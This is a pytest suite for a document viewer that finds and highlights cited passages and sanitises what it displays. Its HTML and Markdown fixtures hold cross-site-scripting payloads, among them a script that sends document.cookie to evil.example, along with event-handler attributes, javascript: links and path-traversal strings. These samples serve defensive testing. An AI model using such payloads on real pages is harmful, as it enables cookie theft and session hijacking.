"""The viewer: a cited passage found in its document and shown there, safely and within limits.

Real files of each type ingested into a real store (real Chroma, the real embedder), real PDFium, real worker
processes for the hostile pages; the oracles are the passages' own words, read back from the HTML or from the
page's own text under the highlight, never the viewer's matching code.
"""

from __future__ import annotations

import os
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ingest import IngestConfig, build_ingestor
from ingest.read import ReadSettings
from ingest.workers import InProcess, Limits, ReadWorkers, WorkerError
from kbagent.settings import Settings
from knowledge_base import KnowledgeBase
from tests.support import parts
from tests.support.files import write_pdf, write_pptx, write_xlsx
from tests.support.hostile import nested_forms_pdf, raw_pdf
from viewer.address import parse_address, source_address
from viewer.config import ViewerConfig
from viewer.documents import TextRequest, view_file
from viewer.html import clean, markdown_html
from viewer.locate import locate, passage_body
from viewer.pages import PageImage, PageRequest, draw_pdf_page
from viewer.service import SourceViewer, UnknownSource, View

HOSTILE_HTML = """<html><head><title>Tool library</title><script>fetch('http://evil.example/?c='+document.cookie)</script>
<style>body{background:url(http://evil.example/bg.png)}</style></head><body>
<h1>Tool library</h1><p onclick="alert(1)">Members borrow the truing stand for 7 days at a time.</p>
<p><img src="http://evil.example/pixel.png" onerror="alert(2)">Late returns cost 2 euros a day.</p>
<p><a href="javascript:alert(3)">Rules</a> and <a href="https://harbour.example/rules">the full rules</a>.</p>
<iframe src="http://evil.example/frame"></iframe><svg onload="alert(4)"><circle r="4"/></svg>
</body></html>"""
RAW_HTML_MARKDOWN = """# Workshop rules

Intro paragraph about the workshop and its volunteers.

<script>alert('md')</script>
<img src="http://evil.example/md.png" onerror="alert(5)">
<a href="javascript:alert(6)" onmouseover="alert(7)">hover me</a>

![tracking pixel](http://evil.example/px.gif)

## Opening hours

The workshop opens on Tuesdays from 18:00 to 21:00 and on Saturdays from 10:00 to 16:00.
"""
ALLOWED_ATTRIBUTES = {"href", "class", "id", "start", "align", "rel"}


class Dom(HTMLParser):
    """Tags, attributes and the text inside marks of a fragment, as a browser would parse it."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.marked: dict[str, list[str]] = {"kb-passage": [], "kb-backing": []}
        self.feed(fragment)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.open.append(dict(attrs).get("class") or "" if tag == "mark" else "")

    def handle_endtag(self, tag: str) -> None:
        if self.open:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        for name in self.marked:
            if name in self.open:
                self.marked[name].append(data)

    def text(self, name: str) -> str:
        return " ".join("".join(self.marked[name]).split())


def assert_safe(fragment: str) -> None:
    dom = Dom(fragment)
    for tag, attrs in dom.tags:
        assert tag not in {"script", "style", "img", "iframe", "svg", "object", "embed", "link", "meta", "form"}
        assert set(attrs) <= ALLOWED_ATTRIBUTES, (tag, attrs)
        href = attrs.get("href")
        assert href is None or re.match(r"(https?|mailto):", href), href
    assert "evil.example" not in " ".join(str(a.get("href")) for _, a in dom.tags)


def words(text: str) -> list[str]:
    """The words a reader sees: a Markdown link's address is not shown, only its text."""
    return re.findall(r"[a-z0-9]+", re.sub(r"\]\([^)]*\)", "]", text).lower())


# ------------------------------------------------------------------------------------------------ locating


def test_a_passage_is_found_across_line_breaks_hyphenation_and_ligatures() -> None:
    document = "Cover page\n\nRegular mainte-\nnance of the ﬁne chain keeps it quiet.\r\nNext paragraph."
    found = locate("Regular maintenance of the fine chain keeps it quiet.", document)
    assert found is not None and found.how == "normalised"
    assert document[found.start : found.end] == "Regular mainte-\nnance of the ﬁne chain keeps it quiet"


def test_a_passage_with_lost_words_is_found_fuzzily_and_its_backing_maps_into_the_document() -> None:
    passage = "Volunteers open the workshop on Tuesdays at 18:00 and lock it at 21:00 sharp."
    document = "Header\n\nVolunteers open the w0rkshop on Tuesdays at 18:00 and lock it at 21:00.\n\nFooter text here."
    found = locate(passage, document)
    assert found is not None and found.how == "fuzzy" and 0.8 < found.share < 1.0
    at = passage.index("Tuesdays at 18:00")
    (span,) = found.to_document(at, at + len("Tuesdays at 18:00"))
    assert document[span[0] : span[1]] == "Tuesdays at 18:00"
    assert locate("Completely unrelated words about gardening tomatoes.", document) is None


def test_a_chunk_body_loses_its_context_header() -> None:
    offset, body = passage_body("Guide › Brakes\n\nSqueeze the lever.\n\nThen check.")
    assert body == "Squeeze the lever.\n\nThen check." and offset == len("Guide › Brakes\n\n")


# ------------------------------------------------------------------------------------------------ rendering


def test_markdown_holding_raw_html_renders_inert_with_the_passage_marked() -> None:
    passage = "The workshop opens on Tuesdays from 18:00 to 21:00"
    start = RAW_HTML_MARKDOWN.index(passage)
    backing = RAW_HTML_MARKDOWN.index("Tuesdays from 18:00")
    fragment = markdown_html(RAW_HTML_MARKDOWN, [(start, start + len(passage))], [(backing, backing + 19)])
    assert_safe(fragment)
    dom = Dom(fragment)
    assert words(dom.text("kb-passage")) == words(passage)
    assert dom.text("kb-backing") == "Tuesdays from 18:00"
    assert "&lt;script&gt;" in fragment  # shown as text, not run


def test_a_hostile_html_file_is_shown_as_its_text_only() -> None:
    view = view_file(TextRequest("library.html", HOSTILE_HTML.encode(), "Late returns cost 2 euros a day."))
    assert view.found
    assert_safe(view.html)
    assert "document.cookie" not in view.html and "<script" not in view.html  # a script's text is dropped too
    assert words(Dom(view.html).text("kb-passage")) == words("Late returns cost 2 euros a day.")


def test_the_last_cleaner_alone_strips_scripts_handlers_and_remote_loads() -> None:
    """What reaches a page passes `clean` last, whatever made it: raw hostile HTML straight in comes out inert."""
    fragment = clean(HOSTILE_HTML + RAW_HTML_MARKDOWN)
    assert_safe(fragment)
    assert "document.cookie" not in fragment and "alert(" not in fragment
    assert "Late returns cost 2 euros a day." in fragment


def test_a_document_forging_the_highlight_marks_nothing() -> None:
    fragment = markdown_html("Text \ue000 pretending \ue001 to be marked.")
    assert "<mark" not in fragment


def test_a_long_document_is_cut_to_a_window_around_the_passage() -> None:
    filler = "Filler paragraph of harbour words and tides.\n\n" * 54_000  # 5 MB in all, under the 5 MiB a file may hold
    passage = "The spoke tension meter lives in drawer 14 of the blue cabinet."
    text = filler + passage + "\n\n" + filler
    view = view_file(TextRequest("big.md", text.encode(), passage))
    assert view.found == "exact" and view.length == len(text)
    assert len(view.html) < 100_000 and view.shown[1] - view.shown[0] < 50_000
    assert words(Dom(view.html).text("kb-passage")) == words(passage)


def _huge_page_pdf(side: float) -> bytes:
    content = b"BT /F1 400 Tf 100 100 Td (Huge) Tj ET"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>" % (side, side),
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def test_a_huge_page_is_drawn_within_the_pixel_cap() -> None:
    for side in (14_400, 200_000):  # the most PDF allows, and a page claiming far more
        start = time.monotonic()
        image = draw_pdf_page(PageRequest(_huge_page_pdf(side), 1, "Huge", max_pixels=4_000_000, max_side=2400))
        assert image.width * image.height <= 4_000_000 and max(image.width, image.height) <= 2400
        assert time.monotonic() - start < 10
        assert image.png.startswith(b"\x89PNG")


@pytest.mark.slow
def test_a_slow_page_is_stopped_at_its_time_and_the_next_request_is_served() -> None:
    # memory enough that the time stops it first (at 1024 MB this page dies of memory in about 6 s here)
    workers = ReadWorkers(ReadSettings(), 1, Limits(memory_mb=2048, timeout_s=3))
    try:
        start = time.monotonic()
        with pytest.raises(WorkerError, match=r"longer than 3 s"):
            workers.call(draw_pdf_page, PageRequest(nested_forms_pdf(depth=12, fanout=8), 1, "x"), timeout_s=3)
        assert time.monotonic() - start < 8, "a slow page held its caller past its time"
        good = write_pdf_bytes(["Page one text about spokes.", "Second page about brake pads."])
        image = workers.call(draw_pdf_page, PageRequest(good, 2, "Second page about brake pads."), timeout_s=10)
        assert image.found == "text" and image.previous == 1 and image.next is None
    finally:
        workers.close()


def write_pdf_bytes(pages: list[str]) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        return write_pdf(Path(folder) / "x.pdf", pages).read_bytes()


# ------------------------------------------------------------------------------------------------ the service


@pytest.fixture
def library(tmp_path: Path, embedded_kb: KnowledgeBase) -> tuple[KnowledgeBase, SourceViewer, Path]:
    folder = tmp_path / "library"
    folder.mkdir()
    (folder / "rules.md").write_text(RAW_HTML_MARKDOWN, encoding="utf-8")
    (folder / "tools.html").write_text(HOSTILE_HTML, encoding="utf-8")
    write_pdf(
        folder / "report.pdf",
        ["Annual report 2024\nMembership grew to 412 members.", "Finances\nThe co-op spent 3,150 euros on tools\n"
         "and 820 euros on the kids' corner programme."],
    )  # fmt: skip
    write_xlsx(folder / "prices.xlsx", {"Parts": [["Part", "Price"], ["Brake pads", 12.5], ["Chain", 24], ["Tube", 6]]})
    write_pptx(
        folder / "deck.pptx", [{"title": "Welcome"}, {"title": "Safety", "bullets": ["Wear gloves when truing."]}]
    )
    (folder / "prices.csv").write_text("part,price\nBrake cable,4\nSaddle,30\n", encoding="utf-8")
    build_ingestor(IngestConfig(), embedded_kb).run([folder])
    settings = Settings(_env_file=None)
    viewer = SourceViewer(
        embedded_kb, InProcess(ReadSettings()), ViewerConfig(), settings.ingest.chunking.fingerprint, 2**24
    )
    return embedded_kb, viewer, folder


def _cite(kb: KnowledgeBase, path: Path, needle: str) -> tuple[str, str, str]:
    """(source id, chunk id, chunk text) of the chunk of `path` holding `needle`."""
    record = kb.records.get(str(path))
    assert record is not None
    for row in kb.keywords.rows(record.chunk_ids):
        if needle in row.text:
            return record.source_id, row.chunk_id, row.text
    raise AssertionError(f"no chunk of {path} holds {needle!r}")


def _text_under(pdf: bytes, image: PageImage) -> str:
    """PDFium's own text inside the drawn highlight's boxes (pixels back to points): what a reader sees marked."""
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument(pdf)
    try:
        page = document[image.page - 1]
        left, _, _, top = page.get_cropbox()
        scale = image.width / page.get_size()[0]
        textpage = page.get_textpage()
        return " ".join(
            textpage.get_text_bounded(left + x0 / scale, top - y1 / scale, left + x1 / scale, top - y0 / scale)
            for x0, y0, x1, y1 in image.passage_boxes
        )
    finally:
        document.close()


def test_each_type_opens_at_its_passage(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
    kb, viewer, folder = library
    for name, needle in [("rules.md", "Tuesdays"), ("tools.html", "Late returns"), ("prices.csv", "Saddle")]:
        source_id, chunk_id, text = _cite(kb, folder / name, needle)
        view = viewer.view(source_id, chunk_id)
        assert view.status == "ok" and view.text is not None and view.text.found, name
        assert_safe(view.text.html)
        assert words(Dom(view.text.html).text("kb-passage")) == words(passage_body(text)[1]), name

    source_id, chunk_id, text = _cite(kb, folder / "report.pdf", "3,150 euros")
    view = viewer.view(source_id, chunk_id)
    assert view.page == 2 and view.page_image is not None and view.page_image.found == "text"
    assert view.page_image.previous == 1 and view.page_image.passage_boxes
    assert words(view.page_image.highlighted_text) == words(passage_body(text)[1])
    assert words(_text_under((folder / "report.pdf").read_bytes(), view.page_image)) == words(passage_body(text)[1])
    assert view.file_link.endswith("report.pdf#page=2")

    source_id, chunk_id, _ = _cite(kb, folder / "prices.xlsx", "Chain")
    view = viewer.view(source_id, chunk_id, backing=[])
    assert view.text is not None and view.text.kind == "grid" and view.location == "sheet Parts"
    assert "Chain" in Dom(view.text.html).text("kb-passage") and "<th>Part</th>" in view.text.html

    source_id, chunk_id, _ = _cite(kb, folder / "deck.pptx", "gloves")
    view = viewer.view(source_id, chunk_id)
    assert view.location == "slide 2" and view.text is not None and "<h1>Safety</h1>" in view.text.html
    assert "gloves" in Dom(view.text.html).text("kb-passage") and view.text.parts == ["slide 1", "slide 2"]


def test_the_backing_words_are_marked_more_strongly(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
    kb, viewer, folder = library
    source_id, chunk_id, text = _cite(kb, folder / "rules.md", "Tuesdays")
    at = text.index("on Saturdays from 10:00 to 16:00")
    view = viewer.view(source_id, chunk_id, backing=[(at, at + len("on Saturdays from 10:00 to 16:00"))])
    assert view.text is not None and Dom(view.text.html).text("kb-backing") == "on Saturdays from 10:00 to 16:00"


def test_an_id_not_recorded_or_a_path_is_refused(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
    kb, viewer, folder = library
    for bad in ("0" * 16, "../../etc/passwd", str(folder / "rules.md"), "", "ABCDEF0123456789"):
        with pytest.raises(UnknownSource):
            viewer.view(bad)
    source_id, _, _ = _cite(kb, folder / "rules.md", "Tuesdays")
    _, other_chunk, _ = _cite(kb, folder / "prices.csv", "Saddle")
    with pytest.raises(UnknownSource):  # a chunk of another source, and no saved passage
        viewer.view(source_id, other_chunk)


def test_a_moved_edited_or_replaced_file_says_so_in_one_line(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
    kb, viewer, folder = library
    source_id, chunk_id, text = _cite(kb, folder / "rules.md", "Tuesdays")
    rules = folder / "rules.md"
    rules.write_text(RAW_HTML_MARKDOWN.replace("Intro paragraph", "A new intro paragraph"), encoding="utf-8")
    view = viewer.view(source_id, chunk_id)
    assert view.status == "edited" and "\n" not in view.note and "edited since it was ingested" in view.note
    assert view.text is not None and view.text.found  # its passage's text is still there: shown where it is now

    rules.rename(folder / "elsewhere.md")
    view = viewer.view(source_id, chunk_id)
    assert view.status == "missing" and "\n" not in view.note and "moved or deleted" in view.note
    assert view.passage == passage_body(text)[1] and view.text is None

    os.symlink("/etc/hostname", rules)  # the recorded path now leads out of what was ingested
    view = viewer.view(source_id, chunk_id)
    assert view.status == "unreadable" and view.text is None


def test_an_old_address_falls_back_to_the_saved_passage(library: tuple[KnowledgeBase, SourceViewer, Path]) -> None:
    kb, viewer, folder = library
    source_id, chunk_id, text = _cite(kb, folder / "rules.md", "Tuesdays")
    address = source_address("kbagent", source_id, chunk_id)
    (folder / "rules.md").write_text(RAW_HTML_MARKDOWN.replace("## Opening hours", "## Hours"), encoding="utf-8")
    build_ingestor(IngestConfig(), kb).run([folder])  # the chunk ids change with the header
    parsed = parse_address(address)
    assert parsed is not None and parsed.source_id == source_id
    assert chunk_id not in kb.records.get(str(folder / "rules.md")).chunk_ids  # type: ignore[union-attr]
    view = viewer.view(parsed.source_id, parsed.chunk_id, saved_passage=text)
    assert view.status == "changed" and "changed since this answer" in view.note
    assert view.text is not None and words(Dom(view.text.html).text("kb-passage")) == words(passage_body(text)[1])


def test_addresses_are_made_and_read_back_and_anything_else_is_refused() -> None:
    address = source_address("my kb", "0123456789abcdef", "0123456789abcdef-fedcba9876543210", "https://kb.example/")
    assert address == "https://kb.example/source/my%20kb/0123456789abcdef?chunk=0123456789abcdef-fedcba9876543210"
    parsed = parse_address(address)
    assert parsed is not None and (parsed.knowledge_base, parsed.source_id) == ("my kb", "0123456789abcdef")
    for bad in ("/source/kb/../../etc/passwd", "/source/kb/0123456789abcdef?chunk=/etc/passwd", "/other/kb/x", ""):
        assert parse_address(bad) is None


@parts.ocr_engine("tesseract")
def test_a_scan_keeps_its_word_boxes_and_highlights_them(
    tmp_path: Path, settings: Settings, embedded_kb: KnowledgeBase
) -> None:
    from tests.support.scans import scanned_page, write_scanned_pdf

    folder = tmp_path / "scans"
    folder.mkdir()
    fact = "The harbour crane lifts at most 40 tonnes. Its operator checks the cable every morning before work."
    write_scanned_pdf(folder / "crane.pdf", [scanned_page("Cover sheet of the crane manual."), scanned_page(fact)])
    build_ingestor(IngestConfig(), embedded_kb).run([folder])
    source_id, chunk_id, text = _cite(embedded_kb, folder / "crane.pdf", "40 tonnes")
    assert embedded_kb.page_words(str(folder / "crane.pdf"), 2) is not None
    viewer = SourceViewer(
        embedded_kb, InProcess(ReadSettings()), ViewerConfig(), settings.ingest.chunking.fingerprint, 2**24
    )
    view: View = viewer.view(source_id, chunk_id)
    assert view.page == 2 and view.page_image is not None and view.page_image.found == "ocr"
    assert view.page_image.passage_boxes and words(view.page_image.highlighted_text) == words(passage_body(text)[1])

    embedded_kb.records.replace_page_words([str(folder / "crane.pdf")], [])  # as a scan ingested before boxes
    view = viewer.view(source_id, chunk_id)
    assert view.page_image is not None and not view.page_image.found and "beside the page" in view.note
